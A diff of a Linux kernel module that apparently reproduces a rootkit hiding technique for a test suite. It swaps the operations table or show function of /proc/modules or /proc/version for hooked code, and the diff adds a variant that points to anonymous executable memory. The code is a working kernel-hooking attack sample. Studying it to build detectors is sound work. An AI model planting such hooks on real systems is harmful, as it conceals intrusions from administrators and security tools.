@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
 /*
  * Technique: a file of /proc gets operations of the module's data (how=table), or what shows it is the module's function
- * (how=show). Who: Adore-ng's successors; kits that hide from /proc/modules, /proc/version and the like.
+ * (how=show) or code of nobody (how=nobody). Who: Adore-ng's successors; kits that hide from /proc/modules, /proc/version and the like.
  * Changes: the entry of /proc/version (show) or /proc/modules (table). Undone when it is unloaded.
  */
 #include "attack.h"
@@ -12,6 +12,7 @@
 #include <linux/seq_file.h>
 
 KERNEL_SYMBOL(proc_root);
+NOBODY_SYMBOLS;
 VARIANT("table");
 /* Where members of struct proc_dir_entry stand (fs/proc/internal.h is not among the headers); from the kernel's BTF. */
 static int node_offset, name_offset, subdir_offset, ops_offset, show_offset;
@@ -31,6 +32,7 @@ static noinline int hooked_show(struct seq_file *file, void *what)
 
 static int __init start(void)
 {
+	static const u8 code[] = RETURNS(0);
 	const char *wanted = HOW("table") ? "modules" : "version";
 	struct rb_node *node;
 
@@ -44,7 +46,9 @@ static int __init start(void)
 		place = (void **)(entry + (HOW("table") ? ops_offset : show_offset));
 		original = *place;
 		copy = *(struct proc_ops *)*(void **)(entry + ops_offset);
-		*place = HOW("table") ? (void *)&copy : (void *)hooked_show;
+		*place = HOW("table")    ? (void *)&copy
+			 : HOW("nobody") ? NOBODY_START(code, sizeof(code))
+					 : (void *)hooked_show;
 		return 0;
 	}
 	return -ESRCH;
@@ -54,6 +58,7 @@ static void __exit stop(void)
 {
 	*place = original;
 	msleep(50);
+	NOBODY_STOP();
 }
 
 ATTACK(start, stop);
